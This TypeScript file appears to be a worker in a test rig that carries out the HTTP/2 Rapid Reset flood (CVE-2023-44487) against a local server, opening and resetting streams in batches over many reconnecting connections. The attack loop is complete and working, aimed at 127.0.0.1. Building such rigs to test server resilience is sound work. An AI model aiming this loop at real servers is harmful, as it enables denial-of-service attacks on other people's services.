import { connect } from "node:net";
import { setPriority } from "node:os";
import { opening, resetStreams } from "../../rig/http2-bytes.ts";
import type { AttackOrder, AttackReport } from "../load/attack.ts";

// Attacks as ordered by its parent: opens streams and resets them as fast as its connections take it (CVE-2023-44487),
// and connects anew whenever it is cut.

// What this process shares its core with is not to be slowed down by it: attackers have machines of their own.
setPriority(19);

process.on("message", (order: AttackOrder) => {
  attack(order).then((report) => process.send?.(report));
});
process.on("disconnect", () => process.exit());

const streamsPerWrite = 100;
const lastStream = 0x7fff_0000;

async function attack({ port, path, connections, seconds }: AttackOrder): Promise<AttackReport> {
  const until = performance.now() + seconds * 1000;
  const report = { connections: 0, streams: 0 };
  await Promise.all(Array.from({ length: connections }, () => attacker(port, path, until, report)));
  return report;
}

type Counts = { -readonly [Key in keyof AttackReport]: AttackReport[Key] };

async function attacker(port: number, path: string, until: number, report: Counts): Promise<void> {
  while (performance.now() < until) await oneConnection(port, path, until, report);
}

function oneConnection(port: number, path: string, until: number, report: Counts): Promise<void> {
  return new Promise((resolve) => {
    let stream = 1;
    const socket = connect(port, "127.0.0.1", () => {
      report.connections += 1;
      socket.write(opening);
      send();
    });
    socket.resume();
    socket.on("error", () => undefined);
    socket.once("close", () => resolve());

    function send(): void {
      if (socket.destroyed) return;
      if (performance.now() >= until || stream > lastStream) return void socket.destroy();
      const more = socket.write(resetStreams(path, stream, streamsPerWrite));
      stream += 2 * streamsPerWrite;
      report.streams += streamsPerWrite;
      if (more) setImmediate(send);
      else socket.once("drain", send);
    }
  });
}
